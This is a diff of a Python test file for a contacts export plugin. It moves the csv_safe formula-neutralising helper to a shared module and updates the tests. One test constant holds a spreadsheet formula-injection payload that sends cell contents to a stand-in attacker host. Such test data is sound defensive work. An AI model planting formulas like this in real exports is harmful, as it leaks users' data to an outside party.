@@ -7,6 +7,7 @@ import json
 import openpyxl
 import pytest
 
+from kloyst.http.spreadsheet import csv_safe
 from kloyst_plugins.contacts import export
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -40,7 +41,7 @@ def test_csv_export_is_decrypted_and_neutralizes_formulas(testapp, vendor, add_c
     ("\0x", "'\0x"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
 ])
 def test_csv_safe_prefixes_only_dangerous_first_characters(value, expected):
-    assert export.csv_safe(value) == expected
+    assert csv_safe(value) == expected
 
 
 def test_xlsx_export_writes_every_cell_as_a_string(testapp, vendor, add_contact):
